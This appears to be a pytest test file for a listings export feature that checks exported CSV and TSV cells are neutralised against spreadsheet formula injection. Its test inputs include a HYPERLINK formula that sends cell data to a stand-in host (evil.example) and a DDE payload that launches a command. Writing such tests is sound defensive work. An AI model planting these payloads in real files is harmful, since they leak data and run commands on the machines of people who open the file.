"""No cell is one that a spreadsheet would run."""

from __future__ import annotations

import re

import pytest

from listings.exports import all_formats
from listings.exports.cells import safe
from listings.exports.format import CSV, TSV
from tests.listings.exports.conftest import send, table

EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"Jeans")'


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\uff1d1+1", "\u200e=1+1"),
        *("-", "+", "@"),
    ],
)
def test_formulas_become_text(text):
    assert safe(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "45.00", "-5", "Jeans", "a=b", "'=x", "https://x.example/?a=b"]
)
def test_other_cells_stay_as_they_are(text):
    assert safe(text) == text


@pytest.mark.parametrize(
    "format",
    [one for one in all_formats().values() if one.media_type in (CSV, TSV)],
    ids=lambda one: one.name,
)
def test_no_cell_of_any_file_is_a_formula(owner, make_listing, format):
    make_listing(
        title=EVIL,
        description="@SUM(1)\n+1",
        brand="+cmd",
        size="-1+1",
        sku="=SKU",
        colors=["=1", "b"],
        materials=["@m"],
        tags=["=t", "+u"],
        attributes={"=Name": "=2+2", "UPC": "=3", "Pattern": "-x"},
    )
    more = {"link": "https://shop.example/{sku}"} if "link" in format.requires else {}
    header, rows = table(send(owner, format.name, **more))
    for row in rows:
        for name, cell in row.items():
            assert not re.match(r"\s*[=+\-@]", cell), (name, cell)
    assert not any(re.match(r"\s*[=+\-@]", name) for name in header)
    assert f"'{EVIL}" in rows[0].values()
